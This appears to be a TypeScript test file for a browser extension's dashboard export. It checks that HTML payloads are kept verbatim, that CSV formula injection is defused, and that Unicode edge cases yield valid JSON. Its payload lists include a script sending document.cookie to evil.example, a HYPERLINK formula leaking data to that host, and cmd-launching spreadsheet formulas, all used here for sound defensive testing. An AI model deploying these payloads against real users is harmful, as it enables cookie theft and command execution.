// @vitest-environment node

// What the exports do with whatever a page put into a post: HTML and script payloads are written
// verbatim (an export is data, and the user's data must come back as it was), spreadsheet formulas
// are defused in every text column of the CSV, and the JSON is valid, well-formed UTF-8 for any
// stored text: emoji, right-to-left, controls, line separators, and lone surrogates (replaced by
// U+FFFD). The path is the real one: readings through the background handlers into IndexedDB,
// then the dashboard's export functions.
import Papa from 'papaparse';
import { loadExportRecords } from '@/lib/queries/export-reads';
import { buildCsv, CSV_COLUMNS } from '@/lib/transfer/csv-export';
import { buildExport, serializeExport } from '@/lib/transfer/json-export';
import { readImport } from '@/lib/transfer/json-import';
import { backend, reading, record, resetAll } from '../components/helpers';
import { pick, prng } from '../reliability/mutate-dom';

const PAGE = { id: 'test-extension', url: 'chrome-extension://test-extension/dashboard.html' };
const NOW = new Date(Date.UTC(2025, 0, 10, 12));

beforeEach(resetAll);

async function exported() {
  const data = buildExport(await loadExportRecords(null), NOW);
  return { data, json: serializeExport(data), csv: buildCsv(data) };
}

function csvRows(csv: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
  return parsed.data;
}

/** The code units of s, each unpaired surrogate replaced by U+FFFD: computed here independently. */
function expectedWellFormed(s: string): string {
  let out = '';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    const next = s.charCodeAt(i + 1);
    if (c >= 0xd800 && c <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      out += s[i]! + s[i + 1]!;
      i++;
    } else if (c >= 0xd800 && c <= 0xdfff) out += '\uFFFD';
    else out += s[i]!;
  }
  return out;
}

/** Strict UTF-8 round trip: lone surrogates would come back as U+FFFD, so the text would differ. */
const isWellFormedUtf16 = (s: string) =>
  new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(s)) === s;

const HTML_PAYLOADS = [
  '<img src=x onerror=alert(document.domain)>',
  '"><svg onload=alert(1)>',
  "</script><script>fetch('https://evil.example/?c='+document.cookie)</script>",
  '<a href="javascript:alert(1)">x</a>',
];
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('hostile strings in the exports', () => {
  it('HTML payloads are exported verbatim in JSON and CSV, and import back unchanged', async () => {
    await record(
      HTML_PAYLOADS.map((p, i) =>
        reading({ postId: `p${i}`, text: p, likes: i, author: { handle: `h${i}`, name: p } }),
      ),
    );
    const { data, json, csv } = await exported();
    const parsed = JSON.parse(json) as typeof data;
    expect(parsed.posts.map((p) => p.text).sort()).toEqual([...HTML_PAYLOADS].sort());
    expect(parsed.posts.map((p) => p.author.name).sort()).toEqual([...HTML_PAYLOADS].sort());
    expect(
      csvRows(csv)
        .map((r) => r.text)
        .sort(),
    ).toEqual([...HTML_PAYLOADS].sort());

    const check = readImport(json);
    expect(check.ok).toBe(true);
    if (!check.ok) return;
    await resetAll();
    expect(await backend().importData(check.data, PAGE)).toMatchObject({ ok: true });
    expect((await exported()).json).toBe(json);
  });

  it('a formula in any text column of the CSV is defused, and the JSON keeps it as it was', async () => {
    await record(
      FORMULAS.map((f, i) =>
        reading({
          postId: `${f.slice(0, 12)}${i}`,
          url: `https://x.com/a/status/${i}`,
          text: f,
          author: { handle: `${f.slice(0, 20)}${i}`, name: f },
          likes: 1,
        }),
      ),
    );
    const { data, csv } = await exported();
    const rows = csvRows(csv);
    expect(rows).toHaveLength(FORMULAS.length);
    for (const row of rows) {
      const post = data.posts.find((p) => `'${p.postId}` === row.postId || p.postId === row.postId)!;
      for (const [col, original] of [
        ['postId', post.postId],
        ['authorHandle', post.author.handle!],
        ['authorName', post.author.name!],
        ['text', post.text],
      ] as const) {
        expect(row[col], `${col} of ${JSON.stringify(original)}`).toBe(`'${original}`);
      }
      // Every cell of the file: none starts a formula.
      for (const [col, cell] of Object.entries(row)) {
        expect(/^[=+\-@\t\r]/.test(cell), `${col}=${JSON.stringify(cell)}`).toBe(false);
      }
    }
    expect(data.posts.map((p) => p.text).sort()).toEqual([...FORMULAS].sort());
  });
});

/** Pieces a page's text can be made of, worst first. */
const PIECES = [
  '🚀',
  '👩🏽‍💻',
  '🇺🇦',
  'مرحبا بالعالم',
  'שלום',
  '\u202eevil\u202c',
  '\u200f\u200e',
  'e\u0301\u0301',
  '\u2028',
  '\u2029',
  '\u0000',
  '\u0007\u001b[31m',
  '"\\',
  '\uFEFF',
  '\uFFFF',
  '\uD83D', // high surrogate alone
  '\uDE80', // low surrogate alone
  '\uDE80\uD83D', // a pair the wrong way round
  'Ω≈ç√',
  '𝕏',
  '漢字かなカナ',
  ',;\n\r\n',
  ' ',
];

function randomText(rand: () => number): string {
  let s = '';
  const n = 1 + Math.floor(rand() * 12);
  for (let i = 0; i < n; i++) s += pick(rand, PIECES);
  return s;
}

describe('any stored text', () => {
  it('300 random texts of emoji, RTL, controls and lone surrogates: valid JSON, well-formed, faithful', async () => {
    const rand = prng(2028);
    const texts = Array.from({ length: 300 }, () => randomText(rand));
    const names = Array.from({ length: 300 }, () => randomText(rand));
    // A cut right through an emoji, as a 280-character excerpt can make.
    texts[0] = `${'a'.repeat(5)}🚀`.slice(0, 6);
    await record(
      texts.map((text, i) =>
        reading({ postId: `r${i}`, text, author: { handle: `u${i}`, name: names[i]! }, likes: i }),
      ),
    );
    const { json, csv } = await exported();

    expect(isWellFormedUtf16(json)).toBe(true);
    const parsed = JSON.parse(json) as {
      posts: Array<{ postId: string; text: string; author: { name: string } }>;
    };
    expect(parsed.posts).toHaveLength(texts.length);
    for (const p of parsed.posts) {
      const i = Number(p.postId.slice(1));
      expect(p.text).toBe(expectedWellFormed(texts[i]!));
      expect(p.author.name).toBe(expectedWellFormed(names[i]!));
    }
    expect(parsed.posts.find((p) => p.postId === 'r0')?.text).toBe('aaaaa\uFFFD');

    expect(isWellFormedUtf16(csv)).toBe(true);
    const rows = csvRows(csv);
    for (const row of rows) {
      const i = Number(row.postId!.slice(1));
      const want = expectedWellFormed(texts[i]!);
      expect(row.text).toBe(/^[=+\-@\t\r]/.test(want) ? `'${want}` : want);
    }

    // The file imports back whole: what PostLens writes, PostLens reads.
    const check = readImport(json);
    expect(check.ok).toBe(true);
  });
});
